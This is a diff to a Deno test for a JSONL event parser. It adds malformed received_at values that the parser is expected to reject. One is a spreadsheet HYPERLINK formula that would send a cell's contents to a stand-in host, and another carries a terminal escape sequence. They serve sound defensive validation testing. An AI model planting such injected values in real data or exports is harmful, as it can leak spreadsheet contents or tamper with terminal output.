@@ -29,13 +29,21 @@ Deno.test("duplicates count once across texts, received_at is optional, and a wr
     { origin: "a.jsonl", text: `${first}\n\n   \n` },
     {
       origin: "b.jsonl",
-      text: `${JSON.stringify(bare)}\n${JSON.stringify({ ...bare, received_at: 5 })}\n[1]\n`,
+      text: [
+        JSON.stringify(bare),
+        JSON.stringify({ ...bare, received_at: 5 }),
+        "[1]",
+        JSON.stringify({ ...bare, received_at: '=HYPERLINK("http://x/?"&A1)' }),
+        JSON.stringify({ ...bare, received_at: "2026-01-01T00:00:00.123Z\u001b[31m" }),
+      ].join("\n"),
     },
   ]);
   equal(c.events.length, 1);
   equal(c.duplicates, 1);
   deepEqual(c.invalid.map((i) => `${i.origin}:${i.lineNumber}: ${i.reason}`), [
-    "b.jsonl:2: received_at must be a string",
+    "b.jsonl:2: received_at must be a UTC time, as the collector writes it",
     "b.jsonl:3: not a JSON object",
+    "b.jsonl:4: received_at must be a UTC time, as the collector writes it",
+    "b.jsonl:5: received_at must be a UTC time, as the collector writes it",
   ]);
 });
